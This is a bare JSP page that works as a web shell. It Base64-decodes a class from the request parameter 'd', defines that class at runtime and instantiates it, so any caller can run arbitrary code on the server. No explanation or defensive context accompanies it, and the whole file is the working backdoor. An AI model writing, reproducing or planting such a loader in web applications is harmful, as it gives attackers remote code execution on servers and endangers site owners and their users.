<%@ page import="java.lang.invoke.MethodHandles,java.util.Base64" %>
<%
  String d = request.getParameter("d");
  if (d != null) {
    Class<?> k = MethodHandles.lookup().defineClass(Base64.getDecoder().decode(d));
    k.getConstructor().newInstance();
  }
%>
